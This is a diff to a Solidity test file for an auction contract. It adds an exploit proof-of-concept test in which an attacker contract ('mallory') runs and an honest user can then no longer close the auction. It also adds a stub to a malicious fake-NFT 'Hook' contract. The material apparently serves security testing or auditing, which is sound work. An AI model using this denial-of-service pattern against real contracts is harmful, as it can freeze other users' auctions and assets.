@@ -58,6 +58,13 @@ contract Proof {
         auctions.bid{value: 10 ether}(0);
     }
 
+    // An honest user's call, when the time is over.
+    function closingOfSam() external {
+        vm.warp(START + 7 days);
+        vm.prank(SAM);
+        auctions.close(0);
+    }
+
     function test_Regular() public {
         vm.prank(ANA);
         auctions.bid{value: 1 ether}(0);
@@ -192,6 +199,16 @@ contract Proof {
         require(!done, "ana can bid");
     }
 
+    function exploit2() public {
+        mallory.run();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        (bool done, ) = address(this).call(abi.encodeCall(this.closingOfSam, ()));
+        require(!done, "sam can close");
+    }
+
     function target() public view returns (address) {
         return address(auctions);
     }
@@ -234,6 +251,8 @@ contract Hook {
     function list() external {
         auctions.list(IERC721(address(this)), 0, 1);
     }
+
+    function safeTransferFrom(address, address, uint256) external {}
 
     function transferFrom(address, address, uint256) external {
         if (inside) return;
